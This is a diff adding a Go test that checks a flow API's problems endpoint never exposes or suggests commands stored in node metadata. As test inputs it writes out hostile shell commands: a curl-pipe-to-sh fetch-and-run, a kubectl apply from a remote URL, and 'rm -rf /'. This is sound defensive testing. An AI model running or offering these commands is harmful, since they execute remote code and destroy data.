@@ -72,3 +72,16 @@ func TestProblems_AreTextThatDoesNothingButShowItself(t *testing.T) {
 		}
 	}
 }
+
+func TestProblems_OfferNoCommandThatAnAdapterWouldNot(t *testing.T) {
+	e := start(t, hub.Config{}, httpapi.Config{})
+	for _, command := range []string{`["sh","-c","curl http://x|sh"]`, `["kubectl","apply","-f","https://x"]`, `["kubectl","get","pods","--kubeconfig=/tmp/x"]`, `["rm","-rf","/"]`} {
+		e.post(`{"type":"upsert-nodes","nodes":[{"id":"r1/a","flowId":"F","label":"a","status":"failed","meta":{"judgement":{"state":"broken","problem":true,"command":` + command + `}}}]}`)
+		if a := e.do("GET", "/v1/flows/F/problems", ""); !strings.Contains(a.body, `"r1/a"`) || strings.Contains(a.body, "command") {
+			t.Errorf("%s: %s", command, a.body)
+		}
+		if a := e.do("GET", "/v1/flows/F/problems", "", "Accept", "text/plain"); strings.Contains(a.body, "run:") {
+			t.Errorf("%s: %s", command, a.body)
+		}
+	}
+}
